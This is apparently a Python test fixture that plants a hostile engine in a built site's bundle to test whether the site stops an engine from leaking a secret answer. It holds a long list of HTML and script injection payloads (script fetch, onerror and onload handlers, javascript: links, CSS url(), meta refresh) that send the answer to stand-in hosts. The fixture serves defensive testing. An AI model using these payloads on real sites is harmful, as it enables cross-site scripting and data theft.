"""Takes a built site and makes one of it whose engine wants to tell others what was answered; gives its folder. Knows how a bundle is packed, and no browser."""

import gzip
import io
import json
import shutil
import zipfile
from pathlib import Path

from tests.engine.conftest import replace

HERE = Path(__file__).parent

# What would ask for something, or run, if the page took it as it comes; {0} is an address that tells.
TAGS = (
    '<meta http-equiv="refresh" content="0; url={0}">', '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<base href="{0}">',
    '<iframe src="{0}"></iframe>', '<iframe srcdoc="<img src=\'{0}\'><script>fetch(\'{0}\')</script>"></iframe>', '<img src="{0}">', '<img srcset="{0} 1x">',
    '<picture><source srcset="{0}"><img src="data:,"></picture>', '<image src="{0}">', '<input type="image" src="{0}">', '<object data="{0}"></object>', '<embed src="{0}">',
    '<form action="{0}" method="get"><input name="a" value="b" autofocus><button>Send</button></form>', '<button formaction="{0}" form="ts-assessment">Send</button>',
    '<link rel="stylesheet" href="{0}">', '<link rel="prefetch" href="{0}">', '<link rel="preload" as="image" href="{0}">', '<link rel="dns-prefetch" href="{0}">', '<link rel="preconnect" href="{0}">',
    '<link rel="icon" href="{0}">', '<link rel="manifest" href="{0}">', '<link rel="next" href="{0}">', '<link rel="modulepreload" href="{0}">', '<script src="{0}"></script>', '<script>fetch("{0}")</script>',
    '<script type="speculationrules">{{"prefetch": [{{"urls": ["{0}"]}}]}}</script>', '<style>@import "{0}"; * {{ background: url("{0}") }}</style>', '<p style="background: url({0})">x</p>',
    '<table background="{0}"><tr><td background="{0}">x</td></tr></table>', '<video src="{0}" poster="{0}" autoplay></video>', '<audio src="{0}" autoplay></audio>', '<video><track default src="{0}"></video>',
    '<svg><image href="{0}" width="9" height="9"/><use href="{0}#x"/><feImage href="{0}"/><script href="{0}"/><a href="{0}"><animate attributeName="href" to="{0}"/><text>x</text></a></svg>',
    '<svg><rect width="9" height="9" fill="url({0}#x)" filter="url({0}#y)" mask="url({0}#z)"/><style>rect {{ fill: url({0}) }}</style></svg>', '<svg onload="fetch(\'{0}\')"><foreignObject><img src="{0}"></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img src="{0}" onerror="fetch(\'{0}\')">--></mglyph></table></mtext></math>', '<noscript><p title="</noscript><img src=\'{0}\'>"></noscript>',
    '<img src="x" onerror="fetch(\'{0}\')">', '<details open ontoggle="fetch(\'{0}\')">x</details>', '<p tabindex="0" autofocus onfocus="fetch(\'{0}\')" onpointerover="fetch(\'{0}\')">x</p>',
    '<a class="out" href="{0}" ping="{0}">out</a>', '<a class="out" href="javascript:fetch(\'{0}\')">out</a>', '<a class="out" href="?{0}">out</a>', '<a class="out" href="&#1;javascript:fetch(\'{0}\')">out</a>',
    '<a class="out" href="../result/?{0}">out</a>', '<a class="out" href="\\\\{0}">out</a>', '<a class="out" href="data:text/html,<img src={0}>" download="x.html">out</a>', '<template><img src="{0}"></template>', '<portal src="{0}"></portal>',
)  # fmt: skip


def build(site: Path, out: Path, *, own: str, other: str, word: str) -> Path:
    """A copy of the site at `out` with a hostile engine; `own` and `other` are origins, `word` is what it wants to get out."""
    shutil.copytree(site, out)
    addresses = [f"{origin}/{name}-html?answer={word}" for name, origin in (("other", other), ("own", own), ("far", "https://elsewhere.invalid"))]
    html = "<section>" + "".join(tag.format(address) for tag in TAGS for address in addresses) + "</section>"
    plan = {"other": other, "own": own, "far": "https://elsewhere.invalid", "word": word, "html": html}
    bundle = next(path for path in (out / "engine").iterdir() if path.is_dir())
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(gzip.decompress((bundle / "core.zip.gz").read_bytes()))) as old, zipfile.ZipFile(packed, "w") as new:
        for name in old.namelist():
            new.writestr("prepared_first.pyc" if name == "prepared.pyc" else name, old.read(name))
        new.writestr("prepared.py", (HERE / "attack.py").read_text("utf-8"))
        new.writestr("attack.json", json.dumps(plan))
    replace(bundle, "core.zip.gz", gzip.compress(packed.getvalue()))
    return out
